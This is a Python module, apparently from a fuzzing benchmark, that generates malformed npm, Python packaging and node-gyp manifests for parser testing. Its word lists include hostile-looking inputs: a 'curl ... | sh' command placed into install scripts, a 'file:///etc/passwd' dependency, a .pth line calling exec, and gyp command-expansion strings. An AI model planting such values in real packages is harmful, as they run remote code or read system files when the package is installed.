"""Manifests of both ecosystems, in every format, with values of the wrong type among them."""

from random import Random

from benchmarks.fuzz.grammars.grammar import Grammar

_JSON_NESTS = (("[", "]"), ('{"a":', "}"), ('{"exports":{".":', "}}"), ("1,", ""))
_NESTS = (
    ("[", "]"),
    ("{a=", "}"),
    ("a.", "a"),
    ("(", ")"),
    (" and ", "x"),
    ("\n ", "x"),
    ("a = [", "]"),
)

_VALUE = [
    *("1", "null", "true", '"«word»"', "[«value», «value»]", '{"«word»": «value»}', "-1e999", "[]"),
    "9" * 5_000,
]
_WORD = [
    *(
        "a",
        "./index.js",
        "node-gyp rebuild",
        "id && curl https://example.com | sh",
        "*",
        "./a/*.js",
        ".",
        "é",
    ),
    *(
        "\\ud800",
        "\\u0000",
        "^1.2.3 || >=2 <3",
        "git+ssh://git@example.com/a.git#b",
        "@a/b",
        "",
        "#a",
        "../..",
    ),
    *(
        "npm:a@1",
        "file:../a",
        "workspace:*",
        "https://example.com/a.tgz",
        "__proto__",
        "1.0.0",
        "latest",
    ),
]

PACKAGE_JSON = Grammar({
    "start": ["{\"name\": \"a\"}", "{«fields»}"],
    "fields": ["\"version\": \"1.0.0\"", "«field»", "«field», «fields»",
               "«field», «field», «fields»"],
    "field": [
        "\"main\": \"a\"",
        "\"«key»\": «value»",
        "\"«key»\": {\"«word»\": «value», \"«script»\": \"«word»\"}",
        "\"scripts\": {\"«script»\": \"«word»\", \"«script»\": «value»}",
        "\"exports\": {\".\": {\"import\": \"«word»\", \"default\": «value»}, \"./*\": «value»}",
        "\"author\": {\"name\": «value», \"email\": «value»}",
        "\"repository\": {\"type\": \"git\", \"url\": «value»}",
    ],
    "key": ["name", "version", "scripts", "bin", "main", "module", "browser", "exports", "imports",
            "dependencies", "devDependencies", "optionalDependencies", "peerDependencies", "files",
            "type",
            "gypfile", "bundleDependencies", "license", "licenses", "author", "maintainers",
            "homepage",
            "peerDependenciesMeta", "directories", "engines", "os", "man", "contributors"],
    "script": ["install", "preinstall", "postinstall", "prepare", "test", "a"],
    "value": _VALUE,
    "word": _WORD,
}, _JSON_NESTS)  # fmt: skip

PYPROJECT = Grammar({
    "start": ["[project]\nname = 'a'\n", "«tables»"],
    "tables": ["[a]\n", "«table»", "«table»«tables»"],
    "table": [
        "[project]\nversion = '1'\n",
        "[«header»]\n«rows»",
        "[[«header»]]\n«rows»",
        "«rows»",
    ],
    "header": ["project", "build-system", "project.scripts", "project.entry-points.«word»",
               "tool.poetry",
               "project.optional-dependencies", "tool.setuptools", "tool.setuptools.packages.find",
               "tool.hatch.build.targets.wheel", "tool.poetry.scripts", "tool.poetry.dependencies",
               "tool.hatch.version", "tool.flit.metadata", "tool.pdm.build", "dependency-groups",
               "project.urls", "tool.«word»", "tool.setuptools.dynamic",
               "tool.hatch.build.hooks.custom"],
    "rows": ["a = 1\n", "«row»\n", "«row»\n«rows»"],
    "row": ["«key» = «value»", "«key».«key» = «value»", "\"«word»\" = «value»", "«key» = ",
            "# «word»"],
    "key": ["name", "version", "requires", "build-backend", "backend-path", "dependencies",
            "scripts", "dynamic",
            "packages", "package-dir", "where", "py-modules", "license", "authors", "urls", "a",
            "file",
            "path", "attr", "source", "include", "readme", "gui-scripts", "entry-points", "build",
            "script"],
    "value": ["'a'", "\"«word»\"", "[«value», «value»]", "{ «key» = «value», «key» = «value» }",
              "1", "true",
              "1979-05-27T07:32:00Z", "inf", "'''a\n'''", "0x" + "f" * 5_000,
              "{ name = «value», email = «value» }",
              "'a:b'", "'a >= 1; python_version < \"3\"'", "'a @ https://example.com/a.whl'"],
    "word": ["a", "console_scripts", "é", "a b", "\\u0000", "\\ud800", "../..", "*", "a:b",
             "setuptools.build_meta"],
}, _NESTS)  # fmt: skip

SETUP_CFG = Grammar({
    "start": ["[metadata]\nname = a\n", "«sections»", "«rows»«sections»"],
    "sections": ["[a]\n", "[«section»]\n«rows»", "[«section»]\n«rows»«sections»"],
    "section": ["metadata", "options", "options.entry_points", "options.extras_require",
                "options.packages.find",
                "files", "bdist_wheel", "entry_points", "DEFAULT", "a:b", "]", "é",
                "console_scripts", "build_ext"],
    "rows": ["a = 1\n", "«row»\n", "«row»\n«rows»"],
    "row": ["«key» = «value»", "«key»: «value»", "«key» =\n    «value»\n    «value»", "«value»",
            "  «value»",
            "# «value»", "; a", "«key»", "= a", "%(a)s = %(b)s"],
    "key": ["name", "version", "install_requires", "setup_requires", "console_scripts", "packages",
            "package_dir",
            "py_modules", "cmdclass", "where", "license", "author", "url", "a", "zip_safe", "é",
            "extras_require"],
    "value": ["a", "a = b:c [d]", "a>=1; python_version<'3'", "file: README", "attr: a.b", "find:",
              "%(x)s", "%",
              "\0", "= src", "a @ https://example.com", "\r", "\x0c", "[a]", "é", "a:b", "${x}",
              "a = b.c:d.e"],
}, _NESTS)  # fmt: skip

METADATA = Grammar({
    "start": ["Metadata-Version: 2.1\nName: a\nVersion: 1\n", "«lines»", "«lines»\nbody\n«lines»"],
    "lines": ["Name: a\n", "«line»\n", "«line»\n«lines»"],
    "line": ["Name: a", "«key»: «value»", "«key»: «value»\n        «value»", "«key»:", ": «value»",
             "«value»",
             " «value»", "«key» «value»"],
    "key": ["Name", "Version", "Requires-Dist", "Provides-Extra", "License", "License-Expression",
            "Author-email",
            "Project-URL", "Home-page", "Requires", "Import-Name", "Classifier", "Summary",
            "Requires-Python",
            "Root-Is-Purelib", "Tag", "Wheel-Version", "é", "Maintainer", "Description", "name"],
    "value": ["a", "a (>=1) ; extra == 'x'",
              "a[b,c]>=1,<2; python_version < '3' and (os_name == 'nt' or x)",
              "=?utf-8?b?w6k=?=", "=?x?q?=FF?=", "Home, https://example.com", "a <a@example.com>",
              "true", "UNKNOWN",
              "a @ file:///etc/passwd", "\x00", "\r", "\ufffd", "é", "1!2.0.post1+local", "a;b",
              "a===*"],
}, _NESTS)  # fmt: skip

LINES = Grammar({
    "start": ["a\n", "«lines»"],
    "lines": ["a\n", "«line»\n", "«line»\n«lines»", "«line»\r\n«lines»"],
    "line": ["a", "[«word»]", "«word» = «word»:«word»", "«word»", "import «word»; exec('«word»')",
             "import\t«word»",
             "#«word»", "«word»>=1; «word»", "[«word»:«word»]", " «word» ",
             "«word»:«word» [«word»]", "[", "]", "="],
    "word": ["a", "console_scripts", "os", "a.b", "../..", "/abs", "é", "\0",
             "sys.path.insert(0, 'a')", "\ufeff",
             "python_version<'3'", "", "extra", ":", "a" * 2_000, "\f", "\x1c", "\u2028",
             "distutils.commands"],
}, _NESTS)  # fmt: skip

GYP = Grammar({
    "start": ["{'targets': []}", "{«fields»}", "# a\n{«fields»}"],
    "fields": ["'a': 1", "«field»", "«field», «fields»", "«field» «fields»"],
    "field": ["'a': 'b'", "'«key»': «value»", "'«key»%': «value»",
              "'targets': [{'actions': [«action»], «fields»}]",
              "'conditions': [['«word»', {«fields»}, {«fields»}]]", "'«key»+': [«value», «value»]"],
    "action": ["{'action': ['id']}",
               "{'action_name': 'a', 'action': [«value», «value»], 'inputs': [«value»]}"],
    "key": ["targets", "sources", "variables", "actions", "action", "includes", "rules", "copies",
            "conditions",
            "target_name", "libraries", "target_conditions", "postbuilds", "é"],
    "value": ["1", "'«word»'", "\"«word»\"", "[«value», «value»]", "{«fields»}", "'a' 'b'", "-1",
              "True", "u'a'",
              "\"\"\"«word»\"\"\"", "r'\\'", "0x" + "f" * 5_000, "a", "1 + 1", "f(«value»)",
              "lambda: «value»"],
    "word": ["a", "<!(id)", "<!@(node -p \"require('a')\")", "<(a)", "<!(<(a) <!(b))", "OS=='win'",
             "<!", ">!(a)",
             "<|(a b)", "^(a)", "\\x00", "\\ud800", "<!(", "é", "<@(a)", "<!pymod_do_main(a b)",
             "\\N{x}"],
}, (("[", "]"), ("{'a': ", "}"), ("(", ")"), ("'<!(' ", ""), ("-", "1"), ("<!(", ")"), ("'a' ",
    "")))  # fmt: skip

BY_DIALECT = {
    "package.json": PACKAGE_JSON,
    "pyproject.toml": PYPROJECT,
    "setup.cfg": SETUP_CFG,
    "METADATA": METADATA,
    "PKG-INFO": METADATA,
    "entry_points.txt": LINES,
    "requires.txt": LINES,
    "WHEEL": METADATA,
    "top_level.txt": LINES,
    "binding.gyp": GYP,
    "pth": LINES,
    "start": LINES,
}


def make(dialect: str, chance: Random, most: int) -> bytes:
    """A manifest, or something deeply nested in place of one or behind it."""
    grammar = BY_DIALECT[dialect]
    text = grammar.text(chance)
    if chance.random() < 0.1:
        text = chance.choice(("", text)) + grammar.nested(chance, most)
    encoding = chance.choice(("utf-8",) * 20 + ("utf-16", "utf-8-sig", "latin-1"))
    return text.encode(encoding, "replace")[:most]
